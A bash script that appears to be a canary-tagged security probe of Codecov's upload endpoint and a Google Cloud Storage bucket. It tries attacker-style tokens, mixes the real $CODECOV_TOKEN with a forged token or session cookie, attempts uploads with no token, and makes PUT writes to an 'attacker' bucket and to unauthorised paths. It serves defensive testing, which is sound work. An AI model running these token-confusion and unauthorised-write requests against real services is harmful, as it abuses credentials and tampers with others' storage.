#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# account.sh - What one with an account of its own at the same vendors would
# try; each request carries CANARY.  Words are arguments of curl.
send() { # NAME ARGUMENT...
	local name=$1 status
	shift
	status=$(curl -s -m 20 -o /dev/null -w '%{http_code}' "${args[@]}" "$@")
	echo "$name $status"
}
args=("$@")
v4=https://codecov.io/upload/v4
bucket=https://storage.googleapis.com
send own-header -X POST -H "X-Upload-Token: attacker-0123456789" "$v4?name=$CANARY"
send own-query -X POST "$v4?token=attacker-0123456789&name=$CANARY"
send both -X POST -H "X-Upload-Token: $CODECOV_TOKEN" \
	"$v4?token=attacker-0123456789&name=$CANARY"
send cookie -X POST -H "X-Upload-Token: $CODECOV_TOKEN" \
	-H "Cookie: session=attacker" "$v4?name=$CANARY"
send no-token -X POST "$v4?name=$CANARY"
send too-early -X PUT -d "$CANARY" "$bucket/codecov/raw/1"
send upload -X POST -H "X-Upload-Token: $CODECOV_TOKEN" "$v4?name=mine"
send other-bucket -X PUT -d "$CANARY" "$bucket/attacker/raw/1"
send same-bucket -X PUT -d "$CANARY" "$bucket/codecov/raw/2"
send other-query -X PUT -d "$CANARY" "$bucket/codecov/raw/1?x=$CANARY"
send given -X PUT -d report "$bucket/codecov/raw/1"
